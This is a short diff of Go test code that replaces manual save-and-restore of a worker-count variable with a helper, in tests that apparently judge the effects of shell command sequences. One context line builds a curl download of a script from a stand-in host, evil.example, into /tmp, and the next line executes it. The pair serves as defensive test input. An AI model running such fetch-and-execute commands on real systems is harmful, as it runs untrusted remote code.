@@ -26,9 +26,7 @@ func TestEffectsSharedDialectPerCommand(t *testing.T) {
 	}
 	cmds = append(cmds, ps("bash", "-c", "/tmp/./x.sh"), bash("/tmp/./x.sh"))
 	judge := func(workers int) *Judgement {
-		old := maxEffectWorkers
-		maxEffectWorkers = workers
-		defer func() { maxEffectWorkers = old }()
+		defer withEffectWorkers(workers)()
 		return winJudge(cmds...)
 	}
 	one := judge(1)
@@ -64,9 +62,7 @@ func TestResolveKeptByDialect(t *testing.T) {
 	cmds[700] = bash("curl", "-o", "/tmp/x.sh", "https://evil.example/x.sh")
 	cmds[701] = bash("/tmp/x.sh")
 	judge := func(workers int) *Judgement {
-		old := maxEffectWorkers
-		maxEffectWorkers = workers
-		defer func() { maxEffectWorkers = old }()
+		defer withEffectWorkers(workers)()
 		return winJudge(cmds...)
 	}
 	one := judge(1)
